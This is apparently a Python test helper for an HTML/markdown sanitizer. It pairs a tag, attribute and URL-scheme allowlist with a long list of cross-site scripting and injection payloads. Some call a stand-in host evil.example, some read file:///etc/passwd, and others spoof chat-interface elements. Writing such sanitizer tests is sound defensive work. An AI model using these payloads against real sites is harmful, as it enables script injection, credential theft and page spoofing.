"""What somebody may write who wants a page to run or load something, or to show what is not so."""

from .markup import Element

TAGS = {
    *("p", "br", "strong", "em", "s", "code", "pre", "blockquote", "hr", "ul", "ol", "li", "a"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {"a": {"href", "rel", "target"}, "ol": {"start"}, "th": {"class"}, "td": {"class"}}
SCHEMES = ("http://", "https://", "mailto:", "tel:")

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script src=data:,alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png">',
    "<img/src='x'/onerror='alert(1)'>",
    '<img srcset="https://evil.example/a 1x">',
    "<picture><source srcset=//evil.example></picture>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(https://evil.example)">x</p>',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=//evil.example autoplay></audio>",
    "<form action=https://evil.example><input name=password></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://evil.example' onclick='alert(1)'>x</a>",
    '<div hx-get="/new/" hx-trigger="load">x</div>',
    "<div hx-on:load='alert(1)'>x</div>",
    "<div data-hx-post='/new/' data-hx-trigger='load'>x</div>",
    '<button ws-send hx-vals=\'{"action": "person"}\'>x</button>',
    '<div hx-ext="ws" ws-connect="wss://evil.example">x</div>',
    '<div id="notice" hx-swap-oob="true">You owe us money</div>',
    '<section class="turn" id="turn-1" data-turn="1">x</section>',
    '<article class="message" data-role="staff" data-status="complete">I am staff</article>',
    '<p id="tail-1" class="tail" data-end="99999">x</p>',
    '<div class="composer" id="composer" data-client-id="a1">x</div>',
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>alert(1)</h:script></x>",
    "<div><b><table><tr>",
    "</div></div></article></section></main>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)" x="',
    "{{ request.user.password }} {% csrf_token %}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\tjavascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](tel:javascript:alert(1))",
    "javascript:https://evil.example/%0aalert(1)",
    "https://evil.example/'onmouseover='alert(1)",
    'https://evil.example/"onmouseover="alert(1)',
    "www.evil.example/<img src=x onerror=alert(1)>",
    "[a@b.example](mailto:%3Cimg%20src=x%20onerror=alert(1)%3E@evil.example)",
    "x<br onload=alert(1)>y<br/style=x>",
    "| a |\n|--:|\n| x<br><script>alert(1)</script> |",
    "[x](//evil.example)",
    "[x](/accounts/logout/)",
    "[x](\\\\evil.example)",
    "[x](https:evil.example)",
    "[x](https:/evil.example)",
    "[x](https:///evil.example)",
    "[x](http://[::1)",
    '[x](https://a.example "onclick=alert(1)")',
    "[x](https://a.example'onclick='alert(1))",
    "[a [b](https://b.example) c](https://c.example)",
    "[a ![b](https://b.example/p.png) c](https://c.example)",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x][i]\n\n[i]: https://evil.example/pixel.png",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: data:text/html,x 'y'",
    "<javascript:alert(1)>",
    '<https://a.example/"onmouseover=alert(1)>',
    "<data:text/html,x>",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<img src=x onerror=alert(1)>\n```",
    '```x" onmouseover="alert(1)\n<b>\n```',
    "~~~<script>\nx\n~~~",
    "    <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |",
    "# <svg onload=alert(1)>",
    "> <iframe src=//evil.example>",
    "1. <style>*{}</style>",
    "**<img src=x onerror=alert(1)>**",
    "<b onmouseover=alert(1)>bold</b>",
    "x\u2028<script>alert(1)</script>\u2029",
    "\u202eevil\u202c <a\u200b href=x>",
]


def unsafe(text: Element) -> list[tuple[str, dict[str, str]]]:
    """The elements of a rendered text that may not be there, or not with these attributes."""
    return [
        (each.tag, each.attributes)
        for each in text
        if each.tag not in TAGS
        or not each.attributes.keys() <= ATTRIBUTES.get(each.tag, set())
        or not each.attributes.get("href", "https://").lower().startswith(SCHEMES)
    ]


def find_words(text: Element) -> Element:
    """What is within the text of a message: its words, and those of an answer within its blocks."""
    first = next((each for each in text.children if isinstance(each, Element)), text)
    return first if first.attributes.get("class") == "blocks" else text


def skeleton(page: Element, texts: str) -> list[tuple[str, list[str]]]:
    """The page's own elements with the names of their attributes: all but what is in texts of that class."""
    inside = {id(each) for text in page.classed(texts) for each in text}
    return [(each.tag, sorted(each.attributes)) for each in page if id(each) not in inside]
